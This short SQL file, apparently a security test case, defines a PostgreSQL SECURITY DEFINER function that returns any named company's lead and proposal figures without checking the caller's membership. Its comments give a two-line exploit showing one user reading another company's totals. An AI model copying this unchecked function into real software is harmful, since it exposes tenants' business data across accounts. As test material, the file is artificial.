-- The figures of the start page come for any company that the caller names.
-- about: company_stats, proposals, leads
-- as: hf_rooftop_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-4000-8000-00000000000a"}';
-- exploit: SELECT 'value=' || open_value FROM company_stats('bbbbbbbb-0000-4000-8000-000000000002');
-- shows: value=15000
CREATE FUNCTION company_stats(p_company uuid)
RETURNS TABLE (leads bigint, proposals bigint, open_value numeric)
LANGUAGE SQL STABLE SECURITY DEFINER SET search_path = public, pg_temp AS $$
  SELECT (SELECT count(*) FROM leads WHERE company_id = p_company),
         (SELECT count(*) FROM proposals WHERE company_id = p_company),
         (SELECT sum(price) FROM proposals WHERE company_id = p_company)
$$;
